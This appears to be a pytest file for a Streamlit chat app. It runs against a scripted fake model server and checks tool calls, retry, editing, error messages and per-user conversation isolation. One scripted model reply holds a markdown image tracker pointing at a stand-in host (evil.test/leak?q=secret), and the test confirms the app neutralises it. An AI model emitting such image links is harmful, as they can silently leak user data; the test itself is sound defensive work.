"""The All Tools page in Streamlit's AppTest, talking to a scripted server over real HTTP."""

from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from app.store import Store
from tests.scripted_server import Rule, ScriptedServer

MAIN = str(Path(__file__).resolve().parent.parent / "app" / "main.py")
PLUGIN = '''
from app.tools import register_tool


@register_tool
def get_weather(city: str) -> str:
    """Current weather for a city.

    Args:
        city: City name.
    """
    return f"{city}: 21 degrees"
'''
RULES = [
    Rule('get_weather\n{"city": "Paris"}', when="weather"),
    Rule("\nIt is **21 degrees** ![tracker](http://evil.test/leak?q=secret) in Paris.", when="21 degrees"),
]


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    plugin = tmp_path / "my_tools.py"
    plugin.write_text(PLUGIN)
    with ScriptedServer([Rule(r.reply, r.when) for r in RULES]) as server:
        monkeypatch.setenv("GLM_BACKEND", "openai")
        monkeypatch.setenv("GLM_API_MODE", "chat")  # the tests read the chat messages sent
        monkeypatch.setenv("GLM_API_BASE", server.base_url)
        monkeypatch.setenv("GLM_DATA_DIR", str(tmp_path / "data"))
        monkeypatch.setenv("GLM_TOOLS", str(plugin))
        monkeypatch.setenv("GLM_SEARCH_BACKEND", "")
        yield server, tmp_path / "data"


def app() -> AppTest:
    at = AppTest.from_file(MAIN, default_timeout=60)
    at.run()
    assert not at.exception
    return at


def test_tool_call_then_answer(env) -> None:
    _, data = env
    at = app()
    assert "get\\_weather" in [t.label for t in at.sidebar.toggle], "the name shown escaped for Markdown"
    at.chat_input[0].set_value("What's the weather in Paris?").run()
    assert not at.exception
    user, assistant = at.chat_message
    assert user.markdown[0].value == "What's the weather in Paris?"
    answer = assistant.markdown[-1].value
    assert "**21 degrees**" in answer
    assert "![" not in answer and "[🖼 tracker](http://evil.test/leak?q=secret)" in answer
    (status,) = [c for c in assistant.children.values() if type(c).__name__ == "Status"]
    assert status.label.startswith(":material/build: get\\_weather · "), "the name escaped for Markdown"
    assert [c.value for c in status.code] == ['{"city": "Paris"}', "Paris: 21 degrees"]
    conversation_id = at.session_state["conversation:chat"].id
    assert at.query_params["c"] in (conversation_id, [conversation_id])
    stored = Store(data).load_conversation("local", conversation_id)
    assert [m.role for m in stored.messages] == ["user", "assistant", "observation", "assistant"]
    assert stored.messages[1].metadata == "get_weather"


def test_retry_replaces_the_last_answer(env) -> None:
    server, data = env
    at = app()
    at.chat_input[0].set_value("What's the weather in Paris?").run()
    requests_before = len(server.requests)
    retry = next(b for b in at.sidebar.button if "Retry" in b.label)
    retry.click().run()
    assert not at.exception
    assert len(server.requests) == requests_before + 2
    assert len(at.chat_message) == 2
    conversation_id = at.session_state["conversation:chat"].id
    assert len(Store(data).load_conversation("local", conversation_id).turns) == 1


def test_unreachable_server_is_explained(env, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GLM_API_BASE", "http://127.0.0.1:9/v1")
    at = app()
    assert any("Can't reach the OpenAI-compatible server" in e.value for e in at.error)
    assert at.chat_input[0].disabled


@pytest.mark.parametrize("page", ["pages/documents.py", "pages/vision.py"])
def test_other_pages_render(env, page: str) -> None:
    at = app()
    at.switch_page(page).run()
    assert not at.exception


def test_edit_last_question_and_resend(env) -> None:
    server, data = env
    at = app()
    at.chat_input[0].set_value("What's the weather in Paris?").run()
    (editor,) = [t for t in at.text_area if t.value == "What's the weather in Paris?"]
    editor.set_value("And the weather in Rome?")
    at.button(key="FormSubmitter:edit-chat-Resend").click().run()
    assert not at.exception
    assert at.chat_message[0].markdown[0].value == "And the weather in Rome?"
    stored = Store(data).load_conversation("local", at.session_state["conversation:chat"].id)
    assert len(stored.turns) == 1
    assert stored.turns[0][0].content == "And the weather in Rome?"
    assert server.requests[-2]["body"]["messages"][-1]["content"] == "And the weather in Rome?"


def test_signed_in_users_cannot_open_each_others_conversations(env, tmp_path: Path, monkeypatch) -> None:
    from app.auth import add_user

    _, data = env
    users = tmp_path / "users.txt"
    add_user("alice", "alice-secret-1", users)
    add_user("bob", "bob-secret-22", users)
    monkeypatch.setenv("GLM_AUTH", "password")
    monkeypatch.setenv("GLM_AUTH_FILE", str(users))

    alice = AppTest.from_file(MAIN, default_timeout=60)
    alice.run()
    assert not alice.chat_input, "nothing but the sign-in form before signing in"
    alice.text_input[0].set_value("alice")
    alice.text_input[1].set_value("wrong")
    alice.button[0].click().run()
    assert any("Wrong user name or password" in e.value for e in alice.error)
    alice.text_input[1].set_value("alice-secret-1")
    alice.button[0].click().run()
    alice.chat_input[0].set_value("What's the weather in Paris?").run()
    secret_id = alice.session_state["conversation:chat"].id
    assert Store(data).list_conversations("pw:alice", "chat")[0].id == secret_id

    bob = AppTest.from_file(MAIN, default_timeout=60)
    bob.run()
    bob.text_input[0].set_value("bob")
    bob.text_input[1].set_value("bob-secret-22")
    bob.button[0].click().run()
    bob.query_params["c"] = secret_id
    bob.run()
    assert not bob.exception
    assert any("doesn't exist or isn't yours" in w.value for w in bob.warning)
    assert not bob.chat_message
    assert Store(data).list_conversations("pw:bob", "chat") == []
